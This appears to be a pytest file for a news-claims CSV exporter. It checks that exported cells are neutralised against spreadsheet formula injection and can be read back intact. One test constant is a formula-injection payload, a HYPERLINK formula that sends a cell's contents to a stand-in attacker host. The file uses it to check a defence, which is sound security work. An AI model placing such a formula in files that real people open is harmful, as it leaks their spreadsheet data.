"""The exported files, read back by the tools that people open them with."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from analysis.codebook import Codebook, load_codebook
from analysis.config import ROOT, Settings
from analysis.export import COLUMNS, export_files, neutralise, restore
from analysis.records import Article, Claim, article_id
from analysis.store import Answer, ClaimFilter, Store

NOON = datetime(2019, 4, 12, 12, tzinfo=UTC)
FORMULA = '=HYPERLINK("https://evil.example?x="&A1,"Ouvrir")'
ANSWER = ("asked", "answered", "answered_by", "answer", "answer_entries")
PARAGRAPHS = (
    FORMULA,
    "'Déjà cité', a-t-on dit.",
    'Amazon, « Alexa »,\n"écoute"\r tout; NA\N{NO-BREAK SPACE}!',
    "\tTab",
    "-1+1",
    "NULL",
)


@pytest.fixture(scope="module")
def codebook() -> Codebook:
    return load_codebook(Settings().codebook)


@pytest.fixture
def press(store: Store) -> Store:
    """One article whose paragraphs are a claim each, and one without a claim."""
    url = "https://gazette.example/a"
    article = Article(
        id=article_id(url),
        title="@Titre",
        paragraphs=PARAGRAPHS,
        lang="fr",
        outlet="gazette",
        url=url,
        authors=("+Jeanne Morvan", "Luc Petit"),
        published=NOON,
        fetched=NOON,
    )
    other = "https://gazette.example/b"
    blank = Article(article_id(other), "Sans date", (), outlet="gazette", url=other, fetched=NOON)
    blocks = [(-1, article.title), *enumerate(PARAGRAPHS)]
    claims = [
        Claim(
            article_id=article.id,
            paragraph=number,
            start=0,
            end=len(text),
            quote=text,
            vendor="amazon" if number else "other:=genesis",
            product=None,
            practice="retention",
            polarity="denied" if number == 1 else "affirmed",
            certainty="uncertain" if number == 2 else "certain",
            source_type="media",
            source="-Bloomberg",
            rule="r",
            confidence=0.93 if number else None,
        )
        for number, text in blocks
    ]
    for each, own in ((article, claims), (blank, [])):
        store.save_article(each, "La Gazette, « numérique »", "FR")
        store.save_claims(each.id, {1: own}, "e1")
    return store


def read(content: bytes) -> list[dict[str, str]]:
    text = io.StringIO(content.decode("utf-8-sig"), newline="")
    return [
        {key: restore(cell) for key, cell in row.items()}
        for row in csv.DictReader(text, strict=True)
    ]


def claims_file(store: Store, wanted: ClaimFilter, codebook: Codebook) -> list[dict[str, str]]:
    return read(export_files(store, wanted, codebook)["claims.csv"])


@given(st.text(alphabet=st.one_of(st.sampled_from("'=+-@\t\r\n\","), st.characters())))
def test_a_neutralised_cell_can_be_restored(text: str) -> None:
    assert restore(neutralise(text)) == text


@given(st.sampled_from("=+-@\t\r"), st.text())
def test_a_neutralised_cell_is_no_formula(lead: str, text: str) -> None:
    assert neutralise(lead + text)[0] == "'"


@given(
    st.lists(
        st.text(alphabet=st.one_of(st.sampled_from("'=\t\r\n\","), st.characters(codec="utf-8"))),
        min_size=2,
    )
)
def test_any_cells_survive_the_file(cells: list[str]) -> None:
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n").writerow([neutralise(cell) for cell in cells])
    content = buffer.getvalue().encode("utf-8-sig").decode("utf-8-sig")
    (row,) = csv.reader(io.StringIO(content, newline=""), strict=True)
    assert [restore(cell) for cell in row] == cells


def test_every_quote_comes_back_verbatim(press: Store, codebook: Codebook) -> None:
    rows = read(export_files(press, ClaimFilter(), codebook)["claims.csv"])
    assert [row["quote"] for row in rows] == ["@Titre", *PARAGRAPHS]
    assert [row["paragraph"] for row in rows] == ["", "0", "1", "2", "3", "4", "5"]
    first = rows[1]
    stored = press.claims()[1]
    assert first["claim_id"] == stored.id
    assert first["vendor"] == "other:=genesis"
    assert (first["source"], first["title"]) == ("-Bloomberg", "@Titre")
    assert first["outlet_name"] == "La Gazette, « numérique »"
    assert first["published"] == "2019-04-12T12:00:00+00:00"
    assert (first["practice_fr"], first["practice_en"]) == (
        codebook.practice_label("retention", "fr"),
        codebook.practice_label("retention", "en"),
    )
    assert (first["start"], first["end"]) == ("0", str(len(FORMULA)))
    assert [row["confidence"] for row in rows] == ["0.93", "", *["0.93"] * 5]


def test_no_cell_is_a_formula(press: Store, codebook: Codebook) -> None:
    for content in export_files(press, ClaimFilter(), codebook).values():
        rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True)
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_pandas_reads_every_file_as_the_documentation_says(
    press: Store, codebook: Codebook
) -> None:
    for name, content in export_files(press, ClaimFilter(), codebook).items():
        frame = pd.read_csv(io.BytesIO(content), dtype=str, keep_default_na=False)
        frame = frame.map(lambda cell: cell.removeprefix("'"))
        assert frame.to_dict("records") == read(content)
        assert tuple(frame.columns) == COLUMNS[name]


def test_the_bytes_are_what_spreadsheets_expect(press: Store, codebook: Codebook) -> None:
    for content in export_files(press, ClaimFilter(), codebook).values():
        assert content.startswith(b"\xef\xbb\xbf")
        assert content.endswith(b"\r\n")
        unquoted = re.sub(rb'"(?:[^"]|"")*"', b"", content)
        assert b"\n" not in unquoted.replace(b"\r\n", b"")


def test_every_vendor_meets_every_practice(press: Store, codebook: Codebook) -> None:
    rows = read(export_files(press, ClaimFilter(), codebook)["vendors_by_practice.csv"])
    assert len(rows) == 2 * len(codebook.practices)
    said = {(r["vendor"], r["practice"]): r for r in rows if r["state"] != "silent"}
    amazon = said["amazon", "retention"]
    assert set(said) == {("amazon", "retention"), ("other:=genesis", "retention")}
    assert (amazon["state"], amazon["affirmed"], amazon["denied"]) == ("contested", "5", "1")
    assert (amazon["articles"], amazon["affirmed_outlets"], amazon["denied_outlets"]) == (
        "1",
        "1",
        "1",
    )
    assert (amazon["stories"], amazon["affirmed_stories"], amazon["denied_stories"]) == (
        "1",
        "1",
        "1",
    )
    assert (amazon["uncertain"], amazon["affirmed_uncertain"], amazon["denied_uncertain"]) == (
        "1",
        "1",
        "0",
    )


def test_articles_are_listed_with_their_number_of_claims(press: Store, codebook: Codebook) -> None:
    rows = read(export_files(press, ClaimFilter(), codebook)["articles.csv"])
    assert [(r["title"], r["claims"], r["published"]) for r in rows] == [
        ("@Titre", "7", "2019-04-12T12:00:00+00:00"),
        ("Sans date", "0", ""),
    ]
    assert rows[0]["authors"] == "+Jeanne Morvan; Luc Petit"
    assert (rows[0]["versions"], rows[0]["extractor"]) == ("1", "e1")


def test_a_filter_narrows_all_three_files(press: Store, codebook: Codebook) -> None:
    files = export_files(press, ClaimFilter(polarities=("denied",)), codebook)
    assert [row["quote"] for row in read(files["claims.csv"])] == [PARAGRAPHS[1]]
    assert {row["vendor"] for row in read(files["vendors_by_practice.csv"])} == {"amazon"}
    assert [row["claims"] for row in read(files["articles.csv"])] == ["1"]


def test_a_verdict_stands_beside_its_claim(press: Store, codebook: Codebook) -> None:
    rejected, accepted, corrected = [claim.id for claim in press.claims()[:3]]
    press.judge(rejected, "rejected", "Ann", "=1+1")
    press.judge(corrected, "corrected", "Ann", correction={"polarity": "affirmed", "product": "A"})
    press.judge(accepted, "accepted", "Ben")
    rows = {row["claim_id"]: row for row in claims_file(press, ClaimFilter(), codebook)}
    assert rejected not in rows
    assert len(rows) == 6
    row = rows[corrected]
    assert (row["verdict"], row["verdict_by"], row["verdict_note"]) == ("corrected", "Ann", "")
    assert row["verdict_at"].endswith("+00:00")
    assert (row["polarity"], row["read_polarity"]) == ("affirmed", "denied")
    assert (row["product"], row["read_product"], row["read_vendor"]) == ("A", "", row["vendor"])
    assert (rows[accepted]["verdict"], rows[accepted]["read_vendor"]) == ("accepted", "")
    others = [row["verdict"] for key, row in rows.items() if key not in (corrected, accepted)]
    assert others == ["unreviewed"] * 4
    (asked,) = claims_file(press, ClaimFilter(verdicts=("rejected",)), codebook)
    assert (asked["claim_id"], asked["verdict_note"]) == (rejected, "=1+1")


def test_what_the_company_answered_stands_beside_its_claims(
    press: Store, codebook: Codebook
) -> None:
    asked, answered = date(2024, 5, 2), date(2024, 5, 6)
    first, second = [claim.id for claim in press.claims(ClaimFilter(vendors=("amazon",)))[:2]]
    press.log_answer(Answer("amazon", "Ann", asked=asked))
    before = {row["claim_id"]: row for row in claims_file(press, ClaimFilter(), codebook)}
    assert [before[first][name] for name in ANSWER] == ["2024-05-02", "", "", "", "1"]
    for text in ("No comment", "=1+1"):
        press.log_answer(Answer("amazon", "Ann", (), (first,), asked, answered, "@Press", text))
    press.log_answer(Answer("amazon", "Ann", ("human_review",), (), None, answered, "", "Other"))
    press.log_answer(Answer("amazon", "Ann", asked=date(2024, 6, 1)))
    rows = {row["claim_id"]: row for row in claims_file(press, ClaimFilter(), codebook)}
    assert [rows[first][name] for name in ANSWER] == [
        *("2024-05-02", "2024-05-06", "@Press", "=1+1", "4"),
    ]
    assert [rows[second][name] for name in ANSWER] == ["2024-06-01", "", "", "", "2"]
    (other,) = (row for row in rows.values() if row["vendor"] != "amazon")
    assert [other[name] for name in ANSWER] == ["", "", "", "", "0"]
    content = export_files(press, ClaimFilter(), codebook)["claims.csv"].decode("utf-8-sig")
    assert "'=1+1" in content
    assert "'@Press" in content


def test_an_empty_store_gives_headers(store: Store, codebook: Codebook) -> None:
    files = export_files(store, ClaimFilter(), codebook)
    assert {name: content.decode("utf-8-sig") for name, content in files.items()} == {
        name: ",".join(columns) + "\r\n" for name, columns in COLUMNS.items()
    }


def test_the_documentation_lists_the_columns_of_each_file() -> None:
    text = (ROOT / "docs" / "export.md").read_text(encoding="utf-8")
    sections = re.split(r"^## ", text, flags=re.MULTILINE)
    documented = {
        section.split("\n")[0]: tuple(re.findall(r"^\| `(\w+)` \|", section, flags=re.MULTILINE))
        for section in sections
        if section.split("\n")[0].endswith(".csv")
    }
    assert documented == COLUMNS
